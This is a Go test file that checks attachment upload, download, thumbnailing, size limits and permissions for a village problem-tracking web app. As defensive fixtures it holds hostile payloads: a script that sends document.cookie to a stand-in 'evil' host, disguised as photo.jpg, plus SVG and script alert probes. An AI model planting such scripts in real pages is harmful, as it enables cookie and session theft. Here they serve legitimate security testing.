package web_test

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"sanlian/sqldb"
	"sanlian/sqldb/sqldbtest"
	"sanlian/web"
)

// file is one part of an upload.
type file struct {
	name string
	data []byte
}

// multipartBody encodes the kind field (when set) and the files.
func multipartBody(t *testing.T, kind string, files ...file) (*bytes.Buffer, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	if kind != "" {
		mw.WriteField("kind", kind)
	}
	for _, f := range files {
		w, err := mw.CreateFormFile("file", f.name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(f.data)
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return &buf, mw.FormDataContentType()
}

// upload posts files to path with a bearer token, or as the browser b.
func (a *app) upload(path, token string, b *browser, kind string, files ...file) (*http.Response, string) {
	a.t.Helper()
	body, ctype := multipartBody(a.t, kind, files...)
	req, err := http.NewRequest("POST", a.ts.URL+path, body)
	if err != nil {
		a.t.Fatal(err)
	}
	req.Header.Set("Content-Type", ctype)
	client := noRedirect
	if b != nil {
		// What a browser sends for a same-origin form.
		req.Header.Set("Origin", a.ts.URL)
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		client = b.c
	} else {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := client.Do(req)
	if err != nil {
		a.t.Fatal(err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res, string(out)
}

// newProblemAPI enters a problem in 黄沙坪村 as username and returns its id.
func (a *app) newProblemAPI(username, title string) int64 {
	a.t.Helper()
	res, body := a.do("POST", "/api/v1/problems", a.token(username),
		`{"category":"transport","village":"`+sqldbtest.VillageA+`","title":"`+title+`","description":"`+title+`，群众反映强烈"}`)
	if res.StatusCode != 201 {
		a.t.Fatalf("create problem: %d %s", res.StatusCode, body)
	}
	return decode[struct{ ID int64 }](a.t, body).ID
}

func pngBytes(t *testing.T, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.SetRGBA(x, y, color.RGBA{uint8(x * 3), uint8(y * 3), 90, 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const minimalPDF = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

type attachmentJSON struct {
	ID          int64
	ProblemID   int64  `json:"problem_id"`
	Kind        string `json:"kind"`
	Filename    string `json:"filename"`
	ContentType string `json:"content_type"`
	Size        int64  `json:"size"`
	HasThumb    bool   `json:"has_thumb"`
}

func TestAttachments_API(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		a := newApp(t, db)
		cadre := a.token("cadre")
		id := a.newProblemAPI("cadre", "村口石桥开裂")
		base := fmt.Sprintf("/api/v1/problems/%d/attachments", id)
		img := pngBytes(t, 400, 300)

		res, body := a.upload(base, cadre, nil, "", file{"石桥裂缝.png", img}, file{"鉴定报告.pdf", []byte(minimalPDF)})
		if res.StatusCode != 201 {
			t.Fatalf("upload: %d %s", res.StatusCode, body)
		}
		added := decode[struct{ Items []attachmentJSON }](t, body).Items
		if len(added) != 2 || added[0].ContentType != "image/png" || !added[0].HasThumb || added[0].Kind != "problem" ||
			added[0].Size != int64(len(img)) || added[1].ContentType != "application/pdf" || added[1].HasThumb {
			t.Fatalf("added %+v", added)
		}
		photo, pdf := added[0], added[1]

		res, body = a.do("GET", base, a.token("leader"), "")
		if res.StatusCode != 200 {
			t.Fatalf("list: %d %s", res.StatusCode, body)
		}
		if items := decode[struct{ Items []attachmentJSON }](t, body).Items; len(items) != 2 || items[0].ID != photo.ID || items[1].Filename != "鉴定报告.pdf" {
			t.Errorf("list %+v", items)
		}

		t.Run("Download", func(t *testing.T) {
			res, body := a.do("GET", fmt.Sprintf("/attachments/%d", pdf.ID), cadre, "")
			h := res.Header
			if res.StatusCode != 200 || body != minimalPDF {
				t.Fatalf("pdf: %d %q", res.StatusCode, body)
			}
			if h.Get("Content-Type") != "application/pdf" || h.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.Contains(h.Get("Content-Security-Policy"), "sandbox") ||
				!strings.HasPrefix(h.Get("Cache-Control"), "private") {
				t.Errorf("pdf headers %v", h)
			}
			want := `attachment; filename="____.pdf"; filename*=UTF-8''` + url.PathEscape("鉴定报告") + ".pdf"
			if got := h.Get("Content-Disposition"); got != want {
				t.Errorf("disposition %q, want %q", got, want)
			}
			res, body = a.do("GET", fmt.Sprintf("/attachments/%d", photo.ID), cadre, "")
			if res.StatusCode != 200 || body != string(img) || res.Header.Get("Content-Type") != "image/png" ||
				!strings.HasPrefix(res.Header.Get("Content-Disposition"), "inline; ") {
				t.Errorf("photo: %d %v", res.StatusCode, res.Header)
			}
			// The ETag saves sending it again.
			res, _ = a.do("GET", fmt.Sprintf("/attachments/%d", photo.ID), cadre, "", "If-None-Match", res.Header.Get("ETag"))
			if res.StatusCode != 304 {
				t.Errorf("If-None-Match: %d", res.StatusCode)
			}
			res, body = a.do("GET", fmt.Sprintf("/attachments/%d/thumb", photo.ID), cadre, "")
			if res.StatusCode != 200 || res.Header.Get("Content-Type") != "image/jpeg" ||
				!strings.Contains(res.Header.Get("Content-Security-Policy"), "sandbox") {
				t.Fatalf("thumb: %d %v", res.StatusCode, res.Header)
			}
			th, err := jpeg.Decode(strings.NewReader(body))
			if err != nil || th.Bounds().Dx() != 240 || th.Bounds().Dy() != 180 {
				t.Errorf("thumb is not a 240×180 JPEG: %v", err)
			}
			if res, _ := a.do("GET", fmt.Sprintf("/attachments/%d/thumb", pdf.ID), cadre, ""); res.StatusCode != 404 {
				t.Errorf("thumb of a PDF: %d", res.StatusCode)
			}
		})

		t.Run("ErrMislabelled", func(t *testing.T) {
			html := []byte("<!DOCTYPE html><html><body><script>document.location='http://evil/'+document.cookie</script></body></html>")
			res, body := a.upload(base, cadre, nil, "", file{"photo.jpg", html})
			p := decode[problem](t, body)
			if res.StatusCode != 422 || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/problem+json") ||
				!hasHan(p.Detail) || !strings.Contains(p.Detail, "photo.jpg") || p.Errors["file"] == "" {
				t.Errorf("HTML named photo.jpg: %d %s", res.StatusCode, body)
			}
			// One bad file refuses the whole request: the good one is not stored either.
			res, _ = a.upload(base, cadre, nil, "", file{"好.png", img}, file{"坏.svg", []byte(`<svg onload="alert(1)"/>`)})
			if res.StatusCode != 422 {
				t.Errorf("batch with an SVG: %d", res.StatusCode)
			}
			_, body = a.do("GET", base, cadre, "")
			if n := len(decode[struct{ Items []attachmentJSON }](t, body).Items); n != 2 {
				t.Errorf("%d attachments after refused uploads, want 2", n)
			}
			res, body = a.upload(base, cadre, nil, "evidence", file{"a.png", img})
			if res.StatusCode != 422 || !strings.Contains(body, "kind") {
				t.Errorf("unknown kind: %d %s", res.StatusCode, body)
			}
		})

		t.Run("ErrNotMultipart", func(t *testing.T) {
			res, body := a.do("POST", base, cadre, `{"file":"x"}`)
			if p := decode[problem](t, body); res.StatusCode != 400 || !hasHan(p.Detail) {
				t.Errorf("JSON body: %d %s", res.StatusCode, body)
			}
			res, body = a.upload(base, cadre, nil, "resolution")
			if res.StatusCode != 422 || !strings.Contains(body, "请选择") {
				t.Errorf("no file: %d %s", res.StatusCode, body)
			}
		})

		t.Run("ErrRole", func(t *testing.T) {
			res, body := a.upload(base, a.token("leader"), nil, "", file{"a.png", img})
			if res.StatusCode != 403 {
				t.Errorf("leader upload: %d %s", res.StatusCode, body)
			}
			for _, u := range []string{"sysadmin", "auditor"} {
				if res, _ := a.do("GET", fmt.Sprintf("/attachments/%d", photo.ID), a.token(u), ""); res.StatusCode != 403 {
					t.Errorf("%s download: %d", u, res.StatusCode)
				}
			}
		})

		t.Run("ErrOutOfScope", func(t *testing.T) {
			other := a.token("cadre5")
			if res, _ := a.upload(base, other, nil, "", file{"a.png", img}); res.StatusCode != 404 {
				t.Errorf("upload: %d", res.StatusCode)
			}
			if res, _ := a.do("GET", base, other, ""); res.StatusCode != 404 {
				t.Errorf("list: %d", res.StatusCode)
			}
			for _, p := range []string{"/attachments/%d", "/attachments/%d/thumb"} {
				if res, body := a.do("GET", fmt.Sprintf(p, photo.ID), other, ""); res.StatusCode != 404 || strings.Contains(body, "PNG") {
					t.Errorf("%s: %d", p, res.StatusCode)
				}
			}
		})
	})
}

func TestAttachments_TooLarge(t *testing.T) {
	db := sqldbtest.Open(t, "sqlite")
	a := newApp(t, db)
	// A second server on the same database with a 64 KB limit.
	small := web.New(web.Services{Users: db.Accounts, Regions: db.Org, Units: db.Org, Cadres: db.Org, Households: db.Org, Links: db.Org, Audit: db,
		Calendar: db, Problems: db.Problems, Attachments: db.Problems, Ping: db.Ping},
		web.Config{MaxUpload: 64 << 10, Log: slog.New(slog.NewTextHandler(testWriter{t}, nil))})
	ts := httptest.NewServer(small)
	t.Cleanup(ts.Close)
	a.ts, a.tokens = ts, map[string]string{}
	id := a.newProblemAPI("cadre", "垃圾清运不及时")
	base := fmt.Sprintf("/api/v1/problems/%d/attachments", id)
	big := append([]byte(minimalPDF), bytes.Repeat([]byte("0"), 100<<10)...)

	res, body := a.upload(base, a.token("cadre"), nil, "", file{"大文件.pdf", big})
	p := decode[problem](t, body)
	if res.StatusCode != 413 || !strings.Contains(p.Detail, "64 KB") || !strings.Contains(p.Detail, "大文件.pdf") {
		t.Errorf("oversize: %d %s", res.StatusCode, body)
	}
	// Twenty files of 60 KB each pass one by one but not in one request.
	var many []file
	for i := range 20 {
		many = append(many, file{fmt.Sprintf("%d.pdf", i), big[:60<<10]})
	}
	res, body = a.upload(base, a.token("cadre"), nil, "", many...)
	if res.StatusCode != 413 || !strings.Contains(body, "合计") {
		t.Errorf("oversize batch: %d %s", res.StatusCode, body)
	}
	res, body = a.do("GET", base, a.token("cadre"), "")
	if n := len(decode[struct{ Items []attachmentJSON }](t, body).Items); res.StatusCode != 200 || n != 0 {
		t.Errorf("%d attachments stored by refused uploads", n)
	}
}

func TestAttachments_Page(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		a := newApp(t, db)
		id := a.newProblemAPI("cadre", "路灯不亮")
		page := fmt.Sprintf("/problems/%d", id)
		b := a.browser()
		b.login("cadre", sqldbtest.Password)

		_, body := b.get(page)
		for _, want := range []string{`id="attachments"`, "附件", `enctype="multipart/form-data"`, `action="` + page + `/attachments"`,
			`capture="environment"`, `accept="image/*,.pdf,.doc,.docx,.xls,.xlsx,.txt"`, `name="kind"`} {
			if !strings.Contains(body, want) {
				t.Errorf("problem page lacks %s", want)
			}
		}

		res, _ := a.upload(page+"/attachments", "", b, "problem", file{"<b>张三&李四's 现场.png", pngBytes(t, 50, 50)})
		if res.StatusCode != 303 || !strings.HasPrefix(res.Header.Get("Location"), page+"?ok=") {
			t.Fatalf("upload: %d %s", res.StatusCode, res.Header.Get("Location"))
		}
		res, body = b.get(page)
		if res.StatusCode != 200 {
			t.Fatalf("page: %d", res.StatusCode)
		}
		// The filename is text, never markup.
		if !strings.Contains(body, `alt="_b_张三&amp;李四&#39;s 现场.png"`) || strings.Contains(body, "<b>张三") {
			i := strings.Index(body, "alt=")
			t.Errorf("filename not escaped: %s", body[i:i+80])
		}
		if !strings.Contains(body, `/thumb"`) || !strings.Contains(body, "问题材料") {
			t.Errorf("page lacks the thumbnail")
		}
		res, _ = b.get(fmt.Sprintf("/attachments/%d/thumb", firstAttachment(t, a, id)))
		if res.StatusCode != 200 || res.Header.Get("Content-Type") != "image/jpeg" {
			t.Errorf("thumb by cookie: %d", res.StatusCode)
		}

		// A document is listed with its type named in Chinese.
		res, _ = a.upload(page+"/attachments", "", b, "problem", file{"现场记录.pdf", []byte("%PDF-1.4\n")})
		if res.StatusCode != 303 {
			t.Fatalf("upload pdf: %d", res.StatusCode)
		}
		if _, body = b.get(page); !strings.Contains(body, "现场记录.pdf") || !strings.Contains(body, "PDF 文档 · ") {
			t.Errorf("page does not list the document with its type")
		}

		// A refused file shows the page again, with the reason in Chinese.
		res, body = a.upload(page+"/attachments", "", b, "resolution", file{"photo.jpg", []byte("<html><script>alert(1)</script></html>")})
		if res.StatusCode != 422 || !strings.Contains(body, "网页") || !strings.Contains(body, "上传附件") || strings.Contains(body, "<script>alert") {
			t.Errorf("refused upload: %d", res.StatusCode)
		}

		// Without the same-origin headers a browser sends, the form is refused.
		body2, ctype := multipartBody(t, "", file{"a.png", pngBytes(t, 4, 4)})
		req, _ := http.NewRequest("POST", a.ts.URL+page+"/attachments", body2)
		req.Header.Set("Content-Type", ctype)
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		if res, err := b.c.Do(req); err != nil || res.StatusCode != 403 {
			t.Errorf("cross-site upload: %v %v", res.StatusCode, err)
		}

		// A leader sees the attachments but not the form.
		lb := a.browser()
		lb.login("leader", sqldbtest.Password)
		_, body = lb.get(page)
		if !strings.Contains(body, `/thumb"`) || strings.Contains(body, `enctype="multipart/form-data"`) {
			t.Errorf("leader's page: thumbnail %v, form %v", strings.Contains(body, `/thumb"`), strings.Contains(body, "multipart"))
		}
	})
}

func firstAttachment(t *testing.T, a *app, problemID int64) int64 {
	t.Helper()
	_, body := a.do("GET", fmt.Sprintf("/api/v1/problems/%d/attachments", problemID), a.token("office"), "")
	items := decode[struct{ Items []attachmentJSON }](t, body).Items
	if len(items) == 0 {
		t.Fatal("no attachments")
	}
	return items[0].ID
}

// TestAttachments_RightToAct: reading a problem is not the right to
// attach to it. The unit that entered it and the leader read it but the
// API and the page refuse their files, and the page shows them no form;
// the handling unit and the office attach; a closed problem takes nothing.
// A refusal answers in Chinese, stores nothing and audits nothing.
func TestAttachments_RightToAct(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		a := newApp(t, db)
		office, cadre := a.token("office"), a.token("cadre")
		p := a.createProblem(a.token("cadre5"), sqldbtest.VillageA, "村道路灯不亮", "村道三盏路灯不亮")
		for _, step := range []struct{ who, action, extra string }{
			{"office", "assign", `,"unit_id":1,"person_id":2`},
			{"cadre", "accept", ``},
		} {
			if status, body, np := a.problemAct(a.token(step.who), p, step.action, step.extra); status != 200 {
				t.Fatalf("%s: %d %s", step.action, status, body)
			} else {
				p = np
			}
		}
		page := fmt.Sprintf("/problems/%d", p.ID)
		base := fmt.Sprintf("/api/v1/problems/%d/attachments", p.ID)
		img := pngBytes(t, 20, 20)
		stored := func() int {
			_, body := a.do("GET", base, office, "")
			return len(decode[struct{ Items []attachmentJSON }](t, body).Items)
		}
		// refused checks an upload by token (or by browser b) is refused
		// with status, in Chinese, with nothing stored or audited.
		refused := func(who string, b *browser, kind string, status int) {
			t.Helper()
			token := ""
			if b == nil {
				token = a.token(who) // logged in before counting
			}
			n, audits := stored(), a.auditRows()
			var res *http.Response
			var body string
			if b == nil {
				res, body = a.upload(base, token, nil, kind, file{"越权.png", img})
			} else {
				res, body = a.upload(page+"/attachments", "", b, kind, file{"越权.png", img})
			}
			if res.StatusCode != status || !hasHan(body) {
				t.Errorf("%s (page %v) %s: %d %.300s", who, b != nil, kind, res.StatusCode, body)
			}
			if m := stored(); m != n {
				t.Errorf("%s: refused upload stored %d files", who, m-n)
			}
			if m := a.auditRows(); m != audits {
				t.Errorf("%s: refused upload wrote %d audit rows", who, m-audits)
			}
		}
		hasForm := func(b *browser) bool {
			t.Helper()
			res, body := b.get(page)
			if res.StatusCode != 200 {
				t.Fatalf("page: %d", res.StatusCode)
			}
			return strings.Contains(body, `enctype="multipart/form-data"`)
		}
		browse := func(who string) *browser {
			b := a.browser()
			b.login(who, sqldbtest.Password)
			return b
		}

		t.Run("ReadersRefused", func(t *testing.T) {
			for _, who := range []string{"cadre5", "leader"} {
				b := browse(who)
				if hasForm(b) {
					t.Errorf("%s sees the upload form", who)
				}
				refused(who, nil, "resolution", 403)
				refused(who, nil, "problem", 403)
				refused(who, b, "resolution", 403)
			}
		})

		t.Run("HandlersAttach", func(t *testing.T) {
			ub := browse("unitadmin")
			if !hasForm(ub) {
				t.Errorf("the handling unit's admin sees no upload form")
			}
			res, _ := a.upload(page+"/attachments", "", ub, "resolution", file{"整改后.png", img})
			if res.StatusCode != 303 {
				t.Errorf("unit admin's page upload: %d", res.StatusCode)
			}
			for _, tok := range []string{cadre, office} {
				if res, body := a.upload(base, tok, nil, "resolution", file{"佐证.png", img}); res.StatusCode != 201 {
					t.Errorf("upload: %d %s", res.StatusCode, body)
				}
			}
			if n := stored(); n != 3 {
				t.Errorf("%d attachments, want 3", n)
			}
		})

		t.Run("ClosedRefused", func(t *testing.T) {
			for _, step := range []struct{ who, action, extra string }{
				{"cadre", "resolve", `,"measures":"更换灯泡","result":"路灯已亮"`},
				{"office", "callback", `,"solved":"yes","satisfaction":"satisfied"`},
				{"office", "close", ``},
			} {
				if status, body, np := a.problemAct(a.token(step.who), p, step.action, step.extra); status != 200 {
					t.Fatalf("%s: %d %s", step.action, status, body)
				} else {
					p = np
				}
			}
			ub := browse("unitadmin")
			if hasForm(ub) || hasForm(browse("office")) {
				t.Errorf("a closed problem shows the upload form")
			}
			refused("cadre", nil, "resolution", 422)
			refused("office", nil, "resolution", 422)
			refused("unitadmin", ub, "resolution", 422)
		})
	})
}
